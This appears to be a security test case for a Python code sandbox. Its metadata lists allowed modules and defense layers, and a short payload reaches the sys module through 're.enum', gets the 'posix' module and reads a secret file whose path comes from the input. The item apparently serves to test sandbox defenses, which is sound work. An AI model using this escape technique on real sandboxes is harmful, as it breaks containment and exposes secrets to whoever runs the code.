# class: allowed modules leak others
# technique: re holds enum, which holds sys
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import re
found = re.enum.sys
reached = found.modules["posix"]
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
